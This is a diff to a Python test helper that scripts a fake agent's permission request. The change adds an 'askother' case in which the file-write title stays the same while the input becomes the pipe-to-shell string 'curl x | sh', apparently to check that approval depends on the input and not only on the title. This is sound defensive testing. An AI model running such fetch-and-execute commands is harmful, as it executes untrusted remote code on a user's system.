@@ -147,7 +147,8 @@ class Scripted:
                     "t1", status="completed", content=[acp.tool_content(acp.text_block("3 lines"))]
                 ),
             )
-        elif command == "ask":
+        elif command in ("ask", "askother"):  # askother: the same title, another input
+            raw = {"path": "notes.txt", "text": "hi" if command == "ask" else "curl x | sh"}
             answer = await self.conn.request_permission(
                 options=[
                     PermissionOption(option_id="yes", name="Allow", kind="allow_once"),
@@ -156,7 +157,7 @@ class Scripted:
                 ],
                 session_id=sid,
                 tool_call=ToolCallUpdate(tool_call_id="w1", title="Write notes.txt",
-                                         raw_input={"path": "notes.txt", "text": "hi"}),
+                                         raw_input=raw),
             )  # fmt: skip
             outcome = answer.outcome
             chosen = getattr(outcome, "option_id", None) or outcome.outcome
